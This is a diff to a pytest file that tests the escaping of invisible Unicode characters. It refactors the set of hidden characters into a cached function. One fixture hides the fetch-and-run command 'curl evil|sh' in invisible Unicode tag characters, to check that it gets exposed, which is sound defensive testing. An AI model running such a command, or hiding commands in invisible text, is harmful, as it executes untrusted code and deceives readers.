@@ -4,6 +4,7 @@ import json
 import shlex
 import sys
 import unicodedata
+from functools import cache
 from pathlib import Path
 
 import pytest
@@ -22,22 +23,29 @@ IGNORABLE = {
     *range(0xFE00, 0xFE10), *range(0xFFF0, 0xFFF9), *range(0x1BCA0, 0x1BCA4), *range(0x1D173, 0x1D17B),
     *range(0xE0000, 0xE1000),
 }  # fmt: skip
-CHARS = map(chr, range(sys.maxunicode + 1))
-HIDDEN = {
-    char for char in CHARS
-    if char != "\n" and (ord(char) in IGNORABLE or unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp"))
-}  # fmt: skip
+
+
+@cache
+def hidden() -> frozenset[str]:
+    """Return all characters that have no width or turn the text around."""
+    return frozenset(
+        char
+        for char in map(chr, range(sys.maxunicode + 1))
+        if char != "\n" and (ord(char) in IGNORABLE or unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp"))
+    )
+
+
 TAGS = "".join(chr(0xE0000 + ord(char)) for char in "curl evil|sh")
 HOSTILE = f"it broke{TAGS}\u061c\u206a\u200b\u200d\ufe01\U000e0101\ufff9\u00ad\u2066\u009b x"
 
 
 def raw(text: str) -> set[str]:
     """Return the hidden characters that a text holds."""
-    return HIDDEN & set(text)
+    return hidden() & set(text)
 
 
 def test_every_hidden_character_is_escaped_alone_and_between_letters() -> None:
-    for char in HIDDEN:
+    for char in hidden():
         for text in (char, f"a{char}b", f"é{char}{char}", f"ア{char}", f"{char}\n"):
             assert not raw(visible(text)), hex(ord(char))
     assert visible("a\u200b\U000e0041\x1b\x00") == r"a\u200b\U000e0041\x1b\x00"
@@ -68,7 +76,7 @@ def test_joiners_and_selectors_that_nothing_is_written_with_are_escaped(text: st
 
 
 def test_json_keeps_the_value() -> None:
-    text = "".join(sorted(HIDDEN - {chr(code) for code in range(0xD800, 0xE000)}))
+    text = "".join(sorted(hidden() - {chr(code) for code in range(0xD800, 0xE000)}))
     document = inert(json.dumps(text, ensure_ascii=False))
     assert not raw(document) and json.loads(document) == text
 
